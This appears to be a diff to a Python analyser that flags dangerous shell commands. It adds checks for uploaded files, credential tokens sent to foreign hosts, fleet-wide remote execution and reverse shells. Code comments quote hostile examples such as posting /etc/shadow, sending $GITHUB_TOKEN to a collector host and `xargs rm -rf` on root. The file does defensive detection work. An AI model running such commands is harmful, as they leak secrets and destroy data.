@@ -13,7 +13,6 @@ import binascii
 import fnmatch
 import re
 from dataclasses import dataclass, field, replace
-from typing import Any
 
 from magistrate.analysis import PSEUDO_TARGET_CLASSES as _MARKS
 from magistrate.analysis import commands as C
@@ -42,10 +41,19 @@ from magistrate.analysis.families.files import (
     is_switch,
     without_values,
 )
+from magistrate.analysis.feeds import find_target as _find_target
+from magistrate.analysis.feeds import listed_paths as _listed_paths
+from magistrate.analysis.feeds import option_value as _option_value
+from magistrate.analysis.feeds import piped_paths
 from magistrate.analysis.heredocs import body_substitutions, data_spans, match_text
 from magistrate.analysis.invocation import Invocation, basename, split_flags, subcommand_of
 from magistrate.analysis.launches import from_network, outside_runs, runner_fetch
+from magistrate.analysis.outbound import UPLOAD_OPTIONS as _UPLOAD_OPTIONS
+from magistrate.analysis.outbound import data_values as _data_values
+from magistrate.analysis.outbound import foreign_credentials as _foreign_credentials
+from magistrate.analysis.outbound import secret_var_in as _secret_var_in
 from magistrate.analysis.paths import PathClassifier
+from magistrate.analysis.runners import fleet_command as _fleet_command
 from magistrate.analysis.shell_lex import Op, Redir, Word, _decode_ansi_c, lex
 
 MAX_DEPTH = 16  # nested shells, substitutions, `ssh host` hops followed
@@ -327,7 +335,7 @@ class _Run:
     ) -> None:
         privileged = False
         i = 0
-        stdin_targets: list[str] = []
+        stdin_targets = piped_paths(argv, s.prev.invocation if s.prev else None, self.classify)
         while i < len(argv):
             name = basename(argv[i])
             if name not in C.WRAPPERS or (i + 1 == len(argv) and name in C.ENV_DUMPERS):
@@ -359,7 +367,7 @@ class _Run:
                 self.script(argv[i + 1], depth + 1, via, dict(env), span=where)  # flock F -c CMD
                 return
             if name == "xargs" and s.prev is not None and s.prev.invocation is not None:
-                stdin_targets = _listed_paths(s.prev.invocation)
+                stdin_targets = _listed_paths(s.prev.invocation, self.classify)
             elif name == "xargs" and (fed := self._stdin_code(s)) is not None:
                 stdin_targets = fed.split()[:8]  # `xargs rm -rf <<< /`: the here-string's words
             if i >= len(argv):
@@ -734,13 +742,20 @@ class _Run:
                 self.downloaded.add(u.rstrip("/").rsplit("/", 1)[-1])
         # Files attached to a request are read: `-d @file`, `-F x=@file`, `-T file`.
         for k, a in enumerate(argv):
-            if k and lower[k - 1] in ("-t", "--upload-file", "--post-file", "--body-file"):
+            if k and lower[k - 1] in _UPLOAD_OPTIONS:
                 self._add("read", a, name)
+            elif "=" in a and lower[k].split("=", 1)[0] in _UPLOAD_OPTIONS:
+                self._add("read", a.split("=", 1)[1], name)  # `--post-file=/etc/shadow`
             elif "@" in a and not a.startswith("http"):
                 self._add("read", a[a.index("@") :], name)
         for u in urls or [name]:
             # Data spliced into a URL (`?d=$(cat key)`) leaves with the request.
             self._add("send" if sending or "$" in u else "fetch", u, name)
+        if foreign := _foreign_credentials(argv):
+            # `curl -H "X-Token: $GITHUB_TOKEN" https://collector…`: a vendor's credential
+            # handed to a host not the vendor's is sent out, not used.
+            self._add("read", "$ENV", name)
+            self._add("send", foreign, name)
 
     # ----------------------------------------------------------------- following code
     def _follow(
@@ -800,10 +815,10 @@ class _Run:
                 sql = stdin_code if stdin_code is not None else s.prev.literal if s.prev else None
             if sql is not None:
                 self.out.sql.append(sql)
-        elif name == "ssh":
-            rest = _after_host(argv, C.REMOTE_EXEC_VALUE_OPTIONS["ssh"])
-            if rest:
-                self.script(" ".join(rest), depth + 1, nested_via, {}, span=where)
+        elif (remote := _fleet_command(name, argv)) is not None:
+            # `ssh host CMD`, `ansible all -m shell -a CMD --become`, `salt '*' cmd.run CMD`,
+            # `pdsh -w h CMD`, `runas /user:Administrator CMD`: run elsewhere or as another user.
+            self.script(remote, depth + 1, nested_via, {}, span=where)
         elif name in ("su", "runuser", "script", "flock") and (
             "c" in inv.flags or "command" in inv.flags
         ):  # `su -c CMD`, `script -qc CMD /dev/null`, `flock /tmp/l -c CMD`
@@ -958,6 +973,8 @@ class _Run:
             self.limit(f"program code longer than {MAX_CODE:,} characters")
         if found.secret_env:
             self.out.facts.setdefault(Fact.SECRET_ENV_READ, f"code reads {found.secret_env[0]}")
+        if found.reverse_shell:
+            self.out.facts.setdefault(Fact.REVERSE_SHELL, f"code: {found.reverse_shell}")
         if found.remote:
             self.out.facts.setdefault(
                 Fact.REMOTE_CODE, f"code runs what it downloads: {found.remote}"
@@ -1087,15 +1104,6 @@ class _Run:
             k += 1
 
 
-_BROAD = frozenset({"root", "home", "system", "data", "device", "logs", "secret"})
-
-
-_DATA_OPTIONS = frozenset(
-    "-d --data --data-binary --data-raw --data-urlencode --data-ascii -F --form --json "
-    "--post-data --body-data -T --upload-file".split()
-)
-
-
 _STARTUP = frozenset({"shell-init"})
 _DB_QUERY = re.compile(
     r"(^|\s)(-c|-e|-q|--command|--execute|--query)(\s+|=)['\"]?\s*(\\copy|copy|select|with)\b",
@@ -1123,24 +1131,6 @@ def _serves_files(name: str, argv: list[str]) -> bool:
     )
 
 
-def _secret_var_in(values: list[str]) -> bool:
-    """True when a value expands an environment variable named like a secret ($API_KEY)."""
-    return any(credential_vars(v) for v in values if "$" in v)
-
-
-def _data_values(argv: list[str]) -> list[str]:
-    """Values a request sends as data (`-d VALUE`, `--data=VALUE`) and URLs (query strings)."""
-    out: list[str] = []
-    for k, a in enumerate(argv):
-        if a in _DATA_OPTIONS and k + 1 < len(argv):
-            out.append(argv[k + 1])
-        elif "=" in a and a.split("=", 1)[0] in _DATA_OPTIONS:
-            out.append(a.split("=", 1)[1])
-        elif a.startswith(("http://", "https://")) and "?" in a:
-            out.append(a.split("?", 1)[1])
-    return out
-
-
 def _identity_files(argv: list[str]) -> set[str]:
     """Key files a command authenticates with (`ssh -i KEY`, `-o IdentityFile=KEY`)."""
     keys: set[str] = set()
@@ -1154,53 +1144,10 @@ def _identity_files(argv: list[str]) -> set[str]:
     return keys
 
 
-def _find_target(root: str, name: str | None, classify: Any) -> str:
-    """What `find ROOT -name PATTERN` reaches: all of a broad root, else ROOT/PATTERN."""
-    if name is None or classify(root) & _BROAD:
-        return root
-    if root in (".", "./"):
-        return name
-    return root.rstrip("/") + "/" + name
-
-
 def _quote(arg: str) -> str:
     if arg and all(c.isalnum() or c in "-_./=:@%+,{}~*" for c in arg):
         return arg
     return "'" + arg.replace("'", "'\\''") + "'"
-
-
-def _option_value(argv: list[str], options: frozenset[str]) -> str | None:
-    """The value of the first of `options` present (`-c CODE`, `--command=CODE`, `-cCODE`)."""
-    for k, a in enumerate(argv):
-        if a in options and k + 1 < len(argv):
-            return argv[k + 1]
-        if "=" in a and a.split("=", 1)[0] in options:
-            return a.split("=", 1)[1]
-        # Combined short options ending in the code option (`python3 -Ic CODE`, `perl -ne CODE`).
-        if (
-            len(a) > 2
-            and a[0] == "-"
-            and a[1] != "-"
-            and a[1:].isalpha()
-            and f"-{a[-1]}" in options
-            and k + 1 < len(argv)
-        ):
-            return argv[k + 1]
-    return None
-
-
-def _after_host(argv: list[str], valued: frozenset[str]) -> list[str]:
-    k = 0
-    while k < len(argv):
-        a = argv[k]
-        if a == "--":
-            k += 1
-            break
-        if a.startswith("-"):
-            k += 2 if a in valued else 1
-            continue
-        break
-    return argv[k + 1 :]  # skip the host
 
 
 def _after_container(argv: list[str]) -> list[str]:
@@ -1234,16 +1181,6 @@ def _after_container(argv: list[str]) -> list[str]:
     while k < len(argv) and argv[k].startswith("-"):
         k += 2 if argv[k] in valued else 1
     return argv[k + 1 :]
-
-
-def _listed_paths(inv: Invocation) -> list[str]:
-    """Paths a command prints for `xargs` to use: `find ROOTS`, `ls X`, `echo X`."""
-    if inv.name == "find":
-        roots = [a for a in inv.argv if not a.startswith(("-", "(", "!"))][:4]
-        return roots[:1] if roots else ["."]
-    if inv.name in ("ls", "echo", "printf", "cat", "locate"):
-        return inv.operands[:8]
-    return []
 
 
 # A payload that is nothing but an expansion the analysis could not resolve: `$CMD`, `"${X}"`.
